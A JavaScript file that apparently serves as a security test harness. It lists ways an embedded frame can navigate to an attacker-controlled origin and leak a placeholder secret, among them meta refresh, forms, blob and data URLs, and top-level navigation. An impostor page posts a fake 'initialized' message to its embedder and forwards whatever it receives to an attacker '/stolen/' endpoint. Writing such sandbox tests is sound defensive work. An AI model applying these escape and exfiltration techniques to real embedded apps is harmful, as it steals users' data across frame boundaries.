// Ways of a frame to become another page. Whatever page that is, it says so to the attacker (a hit of the kind's name)
// and asks its embedder for what the view was waiting for; what it is then told, the attacker counts as stolen.

/** @param {{ origin: string }} attacker */
globalThis.navigations = (attacker) => {
  const url = (kind) => `${attacker.origin}/hit/${kind}.page?data=secret-of-the-view`;
  const make = (tag, attributes) => Object.assign(document.createElement(tag), attributes);
  const put = (element) => document.body.appendChild(element);
  const form = (kind, method) => {
    const sender = put(make("form", { action: url(kind), method }));
    sender.append(make("input", { name: "data", value: "secret-of-the-view" }));
    sender.submit();
  };

  /** A page whose text is in its address: the impostor of the attacker, told where home is. */
  const page = (kind) => `<!doctype html><title>impostor</title><script>
    addEventListener("message", ({ data }) => fetch("${attacker.origin}/stolen/${kind}", { method: "POST", body: JSON.stringify(data) }));
    fetch("${url(kind)}");
    parent.postMessage({ jsonrpc: "2.0", method: "ui/notifications/initialized", params: {} }, "*");
  </script>`;

  return {
    "location-href": () => {
      location.href = url("location-href");
    },
    "location-replace": () => location.replace(url("location-replace")),
    "meta-refresh": () =>
      put(make("meta", { httpEquiv: "refresh", content: `0;url=${url("meta-refresh")}` })),
    anchor: () => put(make("a", { href: url("anchor") })).click(),
    "open-self": () => window.open(url("open-self"), "_self"),
    "form-get": () => form("form-get", "get"),
    "form-post": () => form("form-post", "post"),
    blob: () => {
      location.href = URL.createObjectURL(new Blob([page("blob")], { type: "text/html" }));
    },
    data: () => {
      location.href = `data:text/html,${encodeURIComponent(page("data"))}`;
    },
    parent: () => {
      parent.location.href = url("parent");
    },
    "anchor-to-parent": () => put(make("a", { href: url("anchor-to-parent"), target: "_parent" })).click(),
    top: () => {
      top.location.href = url("top");
    },
    "anchor-to-top": () => put(make("a", { href: url("anchor-to-top"), target: "_top" })).click(),
  };
};
